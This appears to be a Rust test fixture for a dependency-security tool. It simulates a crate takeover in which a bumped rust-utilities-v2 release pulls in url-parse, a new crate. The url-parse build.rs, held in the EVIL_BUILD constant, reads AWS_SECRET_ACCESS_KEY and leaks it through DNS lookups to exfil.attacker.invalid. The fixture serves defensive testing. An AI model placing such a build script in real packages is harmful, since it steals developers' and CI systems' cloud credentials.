//! The fixture: a registry on loopback and a repository with a base and two heads.

use crate::common::*;
use std::path::{Path, PathBuf};
use std::process::Command;

const NOW: &str = "2026-11-25T12:00:00Z";

const EVIL_BUILD: &str = r#"use std::net::ToSocketAddrs;

fn main() {
    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
    let hex: String = key.bytes().map(|b| format!("{b:02x}")).collect();
    let labels: Vec<&str> = hex.as_bytes().chunks(60).map(|c| std::str::from_utf8(c).unwrap()).collect();
    let _ = format!("{}.exfil.attacker.invalid:53", labels.join(".")).to_socket_addrs();
    println!("cargo:rerun-if-changed=build.rs");
}
"#;

/// Before the takeover: rust-utilities-v2 2.1.0 and an old, harmless text-tidy.
fn before() -> Vec<reflex::drill::registry::Publish> {
    vec![
        release(
            "rust-utilities-v2",
            "2.1.0",
            "2024-02-01T10:00:00Z",
            "",
            &[(
                "src/lib.rs",
                "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n",
            )],
        ),
        release(
            "text-tidy",
            "1.4.0",
            "2023-05-10T08:00:00Z",
            "",
            &[(
                "src/lib.rs",
                "pub fn tidy(s: &str) -> String {\n    s.split_whitespace().collect::<Vec<_>>().join(\" \")\n}\n",
            )],
        ),
    ]
}

/// The takeover: 2.1.1 adds url-parse, whose build script leaks a secret through DNS.
fn takeover() -> Vec<reflex::drill::registry::Publish> {
    let mut all = before();
    all.push(release(
        "rust-utilities-v2",
        "2.1.1",
        "2026-11-24T20:00:00Z",
        "\n[dependencies]\nurl-parse = \"0.1\"\n",
        &[(
            "src/lib.rs",
            "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n\npub use url_parse::parse;\n",
        )],
    ));
    all.push(release(
        "url-parse",
        "0.1.0",
        "2026-11-24T19:30:00Z",
        "",
        &[
            ("build.rs", EVIL_BUILD),
            ("src/lib.rs", "pub fn parse(s: &str) -> &str {\n    s\n}\n"),
        ],
    ));
    all
}

/// A cargo home whose crates.io is the loopback registry, giving up at once on a network
/// error (the runner's cargo and the sandboxed build's).
pub fn cargo_home(dir: &Path, registry: &str) -> PathBuf {
    let home = registry_home(dir, registry);
    let mut config = std::fs::read_to_string(home.join("config.toml")).unwrap();
    config.push_str("\n[net]\nretry = 0\n");
    std::fs::write(home.join("config.toml"), config).unwrap();
    home
}

fn cargo(ws: &Path, home: &Path, args: &[&str]) {
    succeeded(cargo_in(ws, home, args), &format!("cargo {args:?}"));
}

pub fn git_out(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// The repository a pull request comes from: `main` (the base: app at rust-utilities-v2 2.1.0
/// with the policy `init` wrote), `clean` (adds text-tidy 1.4.0, published in 2023) and
/// `hostile` (the takeover bump), plus the registry every later run sees.
pub struct Fixture {
    pub tmp: tempfile::TempDir,
    pub origin: PathBuf,
    pub base: String,
    pub clean: String,
    pub hostile: String,
    pub registry: String,
    pub _servers: Vec<reflex::drill::registry::Registry>,
}

impl Fixture {
    pub fn new() -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let origin = tmp.path().join("origin");
        std::fs::create_dir_all(origin.join("src")).unwrap();
        let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nrust-utilities-v2 = \"2.1\"\n";
        std::fs::write(origin.join("Cargo.toml"), manifest).unwrap();
        std::fs::write(
            origin.join("src/main.rs"),
            "fn main() {\n    println!(\"{}\", rust_utilities_v2::trim(\" hi \"));\n}\n\n#[test]\nfn trims() {\n    assert_eq!(rust_utilities_v2::trim(\" a \"), \"a\");\n}\n",
        )
        .unwrap();
        std::fs::write(origin.join(".gitignore"), "/target\n/__*\n").unwrap();
        let (before_url, before_server) = registry_of(&before());
        cargo(
            &origin,
            &cargo_home(&tmp.path().join("home-before"), &before_url),
            &["generate-lockfile"],
        );
        let (url, full_server) = registry_of(&takeover());
        let home = cargo_home(&tmp.path().join("home-full"), &url);
        let init = run_with(
            &origin,
            &[
                "init",
                "--now",
                NOW,
                "--no-fetch",
                "--cargo-home",
                "__cargo-home",
            ],
            &[("CARGO_REFLEX_CRATES_IO_INDEX", &url)],
            None,
        );
        assert_eq!(init.code, 0, "{}{}", init.stdout, init.stderr);
        git(&origin, &["init", "-q", "-b", "main"]);
        git(&origin, &["add", "-A"]);
        git(
            &origin,
            &["commit", "-q", "-m", "app at rust-utilities-v2 2.1.0"],
        );
        let base = git_out(&origin, &["rev-parse", "HEAD"]);

        git(&origin, &["checkout", "-q", "-b", "clean"]);
        std::fs::write(
            origin.join("Cargo.toml"),
            format!("{manifest}text-tidy = \"1.4\"\n"),
        )
        .unwrap();
        // metadata adds the new crate and keeps every other locked version.
        cargo(&origin, &home, &["metadata", "-q", "--format-version", "1"]);
        git(&origin, &["commit", "-q", "-am", "add text-tidy"]);
        let clean = git_out(&origin, &["rev-parse", "HEAD"]);

        git(&origin, &["checkout", "-q", "-b", "hostile", "main"]);
        cargo(&origin, &home, &["update", "-q", "-p", "rust-utilities-v2"]);
        git(&origin, &["commit", "-q", "-am", "bump rust-utilities-v2"]);
        let hostile = git_out(&origin, &["rev-parse", "HEAD"]);
        git(&origin, &["checkout", "-q", "main"]);
        Fixture {
            tmp,
            origin,
            base,
            clean,
            hostile,
            registry: url,
            _servers: vec![before_server, full_server],
        }
    }
}
